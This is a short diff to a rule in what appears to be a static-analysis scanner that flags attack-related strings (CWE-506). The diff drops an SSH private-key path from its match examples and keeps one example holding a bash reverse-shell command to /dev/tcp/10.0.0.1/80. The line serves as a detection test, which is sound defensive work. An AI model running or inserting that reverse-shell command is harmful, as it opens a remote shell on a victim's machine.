@@ -109,10 +109,10 @@ ATTACK_TEXT = python_rule(
     "A text belongs to an attack",
     "malware",
     Level.MEDIUM,
-    attack="Names a secret's place, a collector's address, or a command of an attack.",
+    attack="Names a collector's address, a tool or a command of an attack.",
     why="MEDIUM: only a text; the use of it has violations of its own.",
     fix="Remove it.",
-    match=("x = '~/.ssh/id_rsa'", "x = 'bash -i >& /dev/tcp/10.0.0.1/80 0>&1'"),
+    match=("x = 'bash -i >& /dev/tcp/10.0.0.1/80 0>&1'",),
     not_match=("x = 'ssh'",),
     cwe=506,
 )
